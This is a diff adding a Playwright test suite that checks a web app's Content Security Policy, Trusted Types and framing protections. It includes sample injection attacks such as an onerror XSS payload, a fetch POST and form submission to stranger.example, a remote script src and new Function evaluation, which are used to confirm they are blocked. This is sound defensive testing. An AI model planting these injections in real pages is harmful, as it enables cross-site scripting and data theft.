@@ -1,0 +1,137 @@
+import { everything } from './fixtures/procedures.ts';
+import { expect, test } from './fixtures/test.ts';
+
+// That nothing of the app breaks the policy is checked in every spec (fixtures/page-watch.ts).
+
+/** What somebody might try who got a piece of markup or script into the page, and the directive that stops it. */
+const tricks: readonly (readonly [what: string, directive: string, trick: () => unknown])[] = [
+  [
+    'an inline style',
+    'style-src-elem',
+    () => {
+      const style = document.createElement('style');
+      style.textContent = 'body { display: none }';
+      document.body.append(style);
+    },
+  ],
+  [
+    'an image of a stranger',
+    'img-src',
+    () => {
+      document.createElement('img').src = 'https://stranger.example/image.png';
+    },
+  ],
+  [
+    'a frame',
+    'frame-src',
+    () => {
+      const frame = document.createElement('iframe');
+      frame.src = 'https://stranger.example/';
+      document.body.append(frame);
+    },
+  ],
+  [
+    'a message to a stranger',
+    'connect-src',
+    () => fetch('https://stranger.example/', { method: 'POST', body: 'x' }).catch(() => undefined),
+  ],
+  [
+    'a form that leads elsewhere',
+    'form-action',
+    () => {
+      const form = document.createElement('form');
+      form.action = 'https://stranger.example/';
+      document.body.append(form);
+      form.submit();
+    },
+  ],
+  [
+    'another address for the page’s own paths',
+    'base-uri',
+    () => {
+      const base = document.createElement('base');
+      base.href = 'https://stranger.example/';
+      document.head.append(base);
+    },
+  ],
+  ['a worker of text', 'require-trusted-types-for', () => void new Worker('data:text/javascript,0')],
+  [
+    'text that becomes code',
+    'require-trusted-types-for',
+    // What a test evaluates may evaluate; what it leaves behind may not.
+    () =>
+      setTimeout(() => {
+        try {
+          // oxlint-disable-next-line typescript/no-implied-eval -- it is what must not work.
+          Reflect.set(window, 'hacked', new Function('return 1')());
+        } catch {
+          // as it should be
+        }
+      }),
+  ],
+  [
+    'text that becomes markup',
+    'require-trusted-types-for',
+    () => {
+      document.body.innerHTML = '<img src=x onerror="window.hacked = 1">';
+    },
+  ],
+  [
+    'text that becomes the address of a script',
+    'require-trusted-types-for',
+    () => {
+      document.createElement('script').src = 'https://stranger.example/script.js';
+    },
+  ],
+  [
+    'a Trusted Types policy of a stranger',
+    'trusted-types',
+    () => (window as unknown as TrustedTypesWindow).trustedTypes.createPolicy('stranger', {}),
+  ],
+];
+
+interface TrustedTypesWindow {
+  readonly trustedTypes: { createPolicy(name: string, rules: object): unknown };
+}
+
+for (const [what, directive, trick] of tricks) {
+  test(`the page’s policy stops ${what}`, async ({ page, procedures, customer, watch }) => {
+    watch.allowViolation(new RegExp(`^${directive} blocked|Content Security Policy|Trusted`));
+    watch.allowForeign('https://stranger.example'); // what was blocked is listed as a request, too
+    await customer.open(await procedures.make(everything));
+    await customer.sees('start');
+    await page.evaluate(trick).catch(() => undefined); // some tricks throw where they are stopped
+    await expect
+      .poll(() => watch.violations())
+      .toContainEqual(expect.stringContaining(`${directive} blocked`));
+    expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
+    expect(customer.address).toMatch(/start$/);
+  });
+}
+
+test('the camera is the only thing that the page may use', async ({ page, procedures, customer }) => {
+  await customer.open(await procedures.make(everything));
+  const allowed = await page.evaluate(() =>
+    (
+      document as unknown as { featurePolicy: { allowedFeatures(): readonly string[] } }
+    ).featurePolicy.allowedFeatures(),
+  );
+  expect(allowed).toContain('camera');
+  for (const feature of ['microphone', 'geolocation', 'display-capture', 'usb', 'clipboard-read']) {
+    expect(allowed).not.toContain(feature);
+  }
+});
+
+test('no other page may show this one in a frame', async ({ page, procedures, context, watch }) => {
+  watch.allow(/frame-ancestors|X-Frame-Options|Refused to (frame|display)/i);
+  watch.allowViolation(/frame-ancestors|Content Security Policy/);
+  const { link } = await procedures.make(everything);
+  const framing = 'https://stranger.example/';
+  await context.route(framing, (route) =>
+    route.fulfill({ contentType: 'text/html', body: `<iframe src="${link}"></iframe>` }),
+  );
+  watch.allowForeign(new URL(framing).origin);
+  await page.goto(framing);
+  const frame = page.frames().find((candidate) => candidate !== page.mainFrame());
+  await expect.poll(() => frame?.url().startsWith('chrome-error:')).toBe(true);
+});
